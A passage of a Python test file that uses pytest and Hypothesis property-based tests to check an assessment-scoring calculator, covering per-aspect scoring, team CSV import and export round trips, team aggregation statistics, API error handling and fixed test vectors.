    error = failed(api_team({"aspects": "a", "csv": "participant,a\nMari,1\n"}))
    assert error["code"] == Code.INTERNAL_ERROR


# ---------------------------------------------------------------------------------------------
# Properties

aspect_ids = st.lists(
    st.from_regex(r"[a-z0-9]{0,3}[a-z][a-z0-9]{0,2}(-[a-z0-9]{1,4}){0,2}", fullmatch=True).filter(
        lambda word: word not in {"participant", "aspects", "csv", "delimiter"}
    ),
    min_size=1,
    max_size=16,
    unique=True,
)
answer_values = st.one_of(
    st.none(),
    st.integers(1, 4),
    st.integers(1, 4).map(str),
    st.sampled_from(["", " ", " 2 ", "3.0", "+4"]),
)
anything = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=6),
    st.lists(st.integers(), max_size=2),
)
names = st.text(min_size=1, max_size=20).filter(lambda text: clean_name(text) != "")


@st.composite
def assessments(
    draw: st.DrawFn, values: st.SearchStrategy[object] = answer_values
) -> tuple[list[str], dict[str, Any]]:
    ids = draw(aspect_ids)
    chosen = draw(st.lists(st.sampled_from(ids), unique=True))
    return ids, {aspect: draw(values) for aspect in chosen}


def level(value: object) -> int | None:
    if value is None or (isinstance(value, str) and not value.strip()):
        return None
    return int(float(value))  # type: ignore[arg-type]


@given(assessments())
def test_score_properties(case: tuple[list[str], dict[str, Any]]) -> None:
    ids, answers = case
    result = score_assessment(ids, answers)
    values = {aspect: level(answers.get(aspect)) for aspect in ids}
    answered = [aspect for aspect in ids if values[aspect] is not None]
    assert result.answered + result.unanswered == result.n_aspects == len(ids)
    assert result.answered == len(answered)
    assert set(result.unanswered_aspects) == set(ids) - set(answered)
    assert dict(result.profile) == values
    if answered:
        assert result.mean is not None and 1 <= result.mean <= 4
        assert math.isclose(result.mean, statistics.fmean(values[a] for a in answered))  # type: ignore[misc]
    else:
        assert result.mean is None
    assert set(result.weakest) <= set(answered)
    assert len(result.weakest) == min(3, len(answered))
    keys = [(values[aspect], ids.index(aspect)) for aspect in result.weakest]
    assert keys == sorted(keys)
    rest = [(values[a], ids.index(a)) for a in answered if a not in result.weakest]
    assert all(key < other for key in keys for other in rest)


@given(assessments(anything))
def test_score_raises_only_calculator_errors_naming_an_aspect(
    case: tuple[list[str], dict[str, Any]],
) -> None:
    ids, answers = case
    try:
        score_assessment(ids, answers)
    except CalculatorError as error:
        assert error.code in ERROR_CODES
        assert error.field in ids


csv_text = st.one_of(
    st.text(max_size=300),
    st.lists(
        st.one_of(
            st.sampled_from(
                [
                    "participant",
                    "Participant",
                    "a",
                    "b",
                    "c",
                    "d",
                    "e",
                    "1",
                    "2",
                    "4",
                    "5",
                    "2.5",
                    "kolm",
                    "",
                    " ",
                    '"',
                    '""',
                    '"x"',
                    '"a\nb"',
                    "\ufeff",
                    "Mari",
                    "mari",
                ]
            ),
            st.text(max_size=3),
        ),
        max_size=60,
    ).flatmap(
        lambda cells: st.lists(
            st.sampled_from([",", ";", "\n", "\r\n", "\r", ",", ","]),
            min_size=len(cells),
            max_size=len(cells),
        ).map(lambda seps: "".join(c + s for c, s in zip(cells, seps, strict=True)))
    ),
)


@settings(max_examples=300)
@given(csv_text)
def test_import_never_fails_except_for_an_empty_text(text: str) -> None:
    try:
        imported = read_team_csv(ABCD, text)
    except CalculatorError as error:
        assert (error.code, error.field) == (Code.EMPTY, "csv")
        return
    line_count = text.count("\n") + text.count("\r") - text.count("\r\n") + 1
    assert all(problem.code in PROBLEM_CODES for problem in imported.problems)
    assert all(1 <= problem.row <= line_count for problem in imported.problems)
    header_rows = set(imported.header_rows)
    kept_rows = [participant.row for participant in imported.participants]
    spoilt_rows = {problem.row for problem in imported.problems} - header_rows
    assert kept_rows == sorted(kept_rows)
    assert not spoilt_rows & set(kept_rows)
    assert not header_rows & set(kept_rows)
    assert imported.data_rows == len(kept_rows) + len(spoilt_rows)
    keys = [participant.name.casefold() for participant in imported.participants]
    assert len(keys) == len(set(keys))
    for participant in imported.participants:
        assert participant.name and participant.name == clean_name(participant.name)
        assert list(participant.answers) == ABCD
        assert all(v is None or 1 <= v <= 4 for v in participant.answers.values())
    assert_plain(to_jsonable(imported))


@given(
    st.lists(st.tuples(names, assessments()), min_size=1, max_size=4),
    st.sampled_from([",", ";"]),
)
def test_export_import_round_trip(
    cases: list[tuple[str, tuple[list[str], dict[str, Any]]]], delimiter: str
) -> None:
    ids = cases[0][1][0]
    texts: list[str] = []
    expected: list[tuple[str, dict[str, int | None]]] = []
    seen: set[str] = set()
    for name, (_, answers) in cases:
        answers = {aspect: value for aspect, value in answers.items() if aspect in ids}
        if clean_name(name).casefold() in seen:
            continue
        seen.add(clean_name(name).casefold())
        texts.append(to_csv(ids, answers, name, delimiter=delimiter))
        expected.append((clean_name(name), {a: level(answers.get(a)) for a in ids}))
    imported = read_team_csv(ids, "".join(texts))
    assert imported.problems == ()
    assert [(p.name, dict(p.answers)) for p in imported.participants] == expected
    assert imported.header_rows == tuple(range(1, 2 * len(expected), 2))


@given(st.lists(st.dictionaries(st.sampled_from(ABCD), st.integers(1, 4)), max_size=12))
def test_team_properties(members: list[dict[str, int]]) -> None:
    team = aggregate_team(ABCD, members)
    assert team.n_participants == len(members)
    for summary in team.aspects:
        column = [m[summary.aspect] for m in members if summary.aspect in m]
        assert summary.n == len(column) == sum(summary.counts)
        if column:
            assert summary.mean is not None and summary.min is not None
            assert summary.max is not None
            assert summary.min <= summary.mean <= summary.max
            assert math.isclose(summary.mean, statistics.fmean(column))
        if len(column) >= 2:
            assert summary.standard_deviation is not None
            assert math.isclose(summary.standard_deviation, statistics.stdev(column), abs_tol=1e-12)
        else:
            assert summary.standard_deviation is None
    if team.mean is not None:
        assert 1 <= team.mean <= 4
    means = {s.aspect: s.mean for s in team.aspects if s.mean is not None}
    assert set(team.weakest) <= set(means)
    assert len(team.weakest) == min(3, len(means))
    assert aggregate_team(ABCD, members[::-1]).aspects == team.aspects


def ok_or_error(answer: Mapping[str, Any]) -> None:
    assert_plain(answer)
    assert json.loads(json.dumps(answer, allow_nan=False)) == answer
    if answer["ok"]:
        assert set(answer) == {"ok", "result"}
    else:
        assert answer["error"]["code"] in ERROR_CODES - {Code.INTERNAL_ERROR}


@given(
    st.dictionaries(
        st.sampled_from(["aspects", "a", "b", "participant", "delimiter", "csv", "x"]), anything
    )
)
def test_api_answers_plain_data_for_any_form(form: dict[str, Any]) -> None:
    for call in (api_score, api_export, api_team):
        ok_or_error(call(form))
        ok_or_error(call({"aspects": "a b", **{k: v for k, v in form.items() if k != "aspects"}}))


# ---------------------------------------------------------------------------------------------
# Vectors


@pytest.mark.parametrize("vector", VECTORS["vectors"], ids=[v["id"] for v in VECTORS["vectors"]])
def test_vector(vector: dict[str, Any]) -> None:
    check_vector(vector, VECTORS["aspect_sets"])


@pytest.mark.parametrize("vector", VECTORS["errors"], ids=[v["id"] for v in VECTORS["errors"]])
def test_error_vector(vector: dict[str, Any]) -> None:
    check_error_vector(vector, VECTORS["aspect_sets"])


def test_run_all_passes_every_vector() -> None:
    outcome = run_all(VECTORS)
    assert outcome == {"passed": len(VECTORS["vectors"]) + len(VECTORS["errors"]), "failed": []}


def test_run_all_reports_a_failing_vector() -> None:
    broken = json.loads(json.dumps(VECTORS))
    broken["vectors"][0]["expect"]["mean"] = 3.0
    outcome = run_all(broken)
    assert outcome["passed"] == len(VECTORS["vectors"]) + len(VECTORS["errors"]) - 1
    assert len(outcome["failed"]) == 1
    assert outcome["failed"][0].startswith("customer-all-answered: AssertionError")


def test_every_vector_names_its_source() -> None:
    for vector in VECTORS["vectors"]:
        assert vector["source"].strip(), vector["id"]
    ids = [v["id"] for v in VECTORS["vectors"] + VECTORS["errors"]]
    assert len(ids) == len(set(ids))


def test_participant_answers_are_read_only() -> None:
    participant = read_team_csv(ABCD, lines(HEADER, "Mari,1,2,3,4")).participants[0]
    assert isinstance(participant, ParticipantAnswers)
    with pytest.raises(TypeError):
        participant.answers["a"] = 4  # type: ignore[index]
